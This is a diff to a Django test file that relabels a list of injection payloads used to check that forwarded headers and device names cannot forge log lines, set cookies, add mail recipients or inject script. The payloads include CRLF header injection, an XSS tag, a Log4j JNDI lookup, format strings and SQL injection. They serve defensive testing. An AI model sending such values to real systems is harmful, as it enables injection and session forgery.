@@ -20,17 +20,23 @@ LINE = re.compile(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d,\d{3} (tokens|accounts|django
 FORGERY = "2030-01-01 12:00:00,000 tokens signed_in user=forged"
 SCRIPT = "<script>alert(1)"
 CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f]")
-NASTY = [
-    *(f"x{end_of_line}{FORGERY}" for end_of_line in ("\n", "\r\n", "\r", "\x0b", "\x85", "\u2028", "\x00")),
-    f"\x1b[2K\x1b[1A{FORGERY}",
-    "x\r\nSet-Cookie: __Host-access=forged",
-    "x\nBcc: victim@example.org",
-    f"{SCRIPT}</script>",
-    "%0d%0aSet-Cookie:%20forged=1",
-    "${jndi:ldap://example.org/a}",
-    "{0.__class__} %s %(message)s %n",
-    "' OR 1=1 --",
-]
+NASTY = {
+    "a line after LF": f"x\n{FORGERY}",
+    "a line after CR and LF": f"x\r\n{FORGERY}",
+    "a line after CR": f"x\r{FORGERY}",
+    "a line after a vertical tab": f"x\x0b{FORGERY}",
+    "a line after NEL": f"x\x85{FORGERY}",
+    "a line after a line separator": f"x\u2028{FORGERY}",
+    "a line after NUL": f"x\x00{FORGERY}",
+    "a line that erases the one before": f"\x1b[2K\x1b[1A{FORGERY}",
+    "a cookie": "x\r\nSet-Cookie: __Host-access=forged",
+    "a recipient of the mail": "x\nBcc: victim@example.org",
+    "a script": f"{SCRIPT}</script>",
+    "a cookie after encoded line breaks": "%0d%0aSet-Cookie:%20forged=1",
+    "a lookup by Log4j": "${jndi:ldap://example.org/a}",
+    "fields of a format": "{0.__class__} %s %(message)s %n",
+    "SQL": "' OR 1=1 --",
+}
 
 
 @pytest.fixture
@@ -70,7 +76,7 @@ def assert_harmless(answer: Any) -> None:
 
 
 @pytest.mark.django_db(transaction=True)
-@pytest.mark.parametrize("nasty", NASTY, ids=ascii)
+@pytest.mark.parametrize("nasty", NASTY.values(), ids=NASTY)
 def test_no_header_adds_a_line_to_a_log_or_a_value_to_a_response(user, written, nasty, settings, mailoutbox):
     settings.TRUSTED_PROXIES = ["127.0.0.0/8"]
     forwarded = {"HTTP_X_FORWARDED_FOR": nasty, "HTTP_X_REAL_IP": nasty, "HTTP_FORWARDED": f"for={nasty}"}
@@ -98,7 +104,7 @@ def test_no_header_adds_a_line_to_a_log_or_a_value_to_a_response(user, written, 
 
 
 @pytest.mark.django_db(transaction=True)
-@pytest.mark.parametrize("nasty", NASTY, ids=ascii)
+@pytest.mark.parametrize("nasty", NASTY.values(), ids=NASTY)
 def test_no_name_of_a_device_adds_a_line_to_a_log_or_a_script_to_a_page(api, user, written, nasty, mailoutbox):
     expected = 400 if CONTROL.search(nasty) else 200
     data = {"email": user.email, "password": PASSWORD, "device_name": nasty}
@@ -121,7 +127,7 @@ PASSWORD_FIELDS = [
 ]
 
 
-@pytest.mark.parametrize("length", [4097, 60_000])
+@pytest.mark.parametrize("length", [4097, 60_000], ids="{} characters".format)
 @pytest.mark.parametrize(("path", "field"), PASSWORD_FIELDS)
 def test_a_password_beyond_the_limit_is_never_hashed(signed_in, user, hashed, path, field, length):
     hashed.clear()
